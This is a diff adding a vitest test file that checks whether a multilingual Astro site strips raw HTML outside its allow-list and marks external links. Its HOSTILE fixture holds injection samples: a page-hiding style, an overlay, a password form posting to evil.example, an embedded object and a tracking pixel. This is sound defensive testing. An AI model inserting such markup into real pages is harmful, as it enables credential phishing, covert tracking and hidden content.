@@ -1,0 +1,64 @@
+// Builds the fixture corpus with an article carrying HTML the validator
+// allows but the allow-list does not, and links leaving the site, then
+// reads the built page: what the reader gets is sanitized and marked.
+import { spawnSync } from 'node:child_process';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { parse } from 'node-html-parser';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { useStrings } from '../../src/i18n/index.ts';
+import { metaPolicy } from '../../src/lib/csp.ts';
+import { copyFixture, edit } from '../helpers/fixture.ts';
+
+const ROOT = path.resolve(import.meta.dirname, '../..');
+const HOSTILE = [
+  '<style>body{display:none}</style>',
+  '<div style="position:fixed;inset:0" class="overlay">overlay text</div>',
+  '<form action="https://evil.example/"><input name="password"></form>',
+  '<object data="https://evil.example/x.swf"></object>',
+  '<img src="https://tracker.example/pixel.gif" alt="pixel">',
+  '<abbr title="Meta Superintelligence Labs">MSL</abbr>',
+].join('\n');
+
+const content = copyFixture();
+const outDir = fs.mkdtempSync(path.join(os.tmpdir(), 'avocado-safe-'));
+afterAll(() => [content, outDir].forEach((d) => fs.rmSync(d, { recursive: true, force: true })));
+
+const built = (locale: 'en' | 'zh-tw') => parse(fs.readFileSync(path.join(outDir, locale, 'articles/sample-article/index.html'), 'utf8'));
+
+beforeAll(() => {
+  edit(content, 'articles/sample-article/en.md', '## The window', `## The window\n\n${HOSTILE}\n\nRead [the post](https://example.org/post).`);
+  edit(content, 'articles/sample-article/zh-tw.md', '## 發布時間', `## 發布時間\n\n${HOSTILE}\n\n參見[原文](https://example.org/post)。`);
+  const r = spawnSync('npx', ['astro', 'build', '--outDir', outDir], { cwd: ROOT, env: { ...process.env, AVOCADO_CONTENT_DIR: content }, encoding: 'utf8' });
+  if (r.status !== 0) throw new Error(`fixture build failed:\n${r.stdout}\n${r.stderr}`);
+}, 120_000);
+
+describe('an article with raw HTML outside the allow-list, once built', () => {
+  it.each(['en', 'zh-tw'] as const)('%s: keeps the text and allowed tags, drops styles, forms, objects, foreign images', (locale) => {
+    const body = built(locale).querySelector('main')!;
+    expect(body.querySelector('h2')?.getAttribute('id')).toBeTruthy();
+    expect(body.text).toContain('overlay text');
+    expect(body.querySelector('abbr')?.getAttribute('title')).toBe('Meta Superintelligence Labs');
+    for (const sel of ['style', 'form', 'input', 'object', 'img[src]', '.overlay', '[style]']) expect(body.querySelector(sel)?.toString(), sel).toBeUndefined();
+    expect(body.innerHTML).not.toMatch(/display:none|evil\.example|tracker\.example/);
+  });
+
+  it('keeps GFM tables (the English fixture has one)', () => {
+    expect(built('en').querySelector('main table td')?.text).toBe('1');
+  });
+
+  it.each([
+    ['en', 'en'],
+    ['zh-tw', 'zh-TW'],
+  ] as const)('%s: marks the external link with rel, class and hidden text in that language', (dir, locale) => {
+    const a = built(dir).querySelector('main a[href="https://example.org/post"]')!;
+    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
+    expect(a.classList.contains('external')).toBe(true);
+    expect(a.querySelector('.visually-hidden')?.text.trim()).toBe(useStrings(locale).site.externalLink);
+  });
+
+  it('still carries its CSP meta tag', () => {
+    expect(metaPolicy(built('en').toString())).toMatch(/^default-src 'self'; script-src 'self' 'sha256-/);
+  });
+});
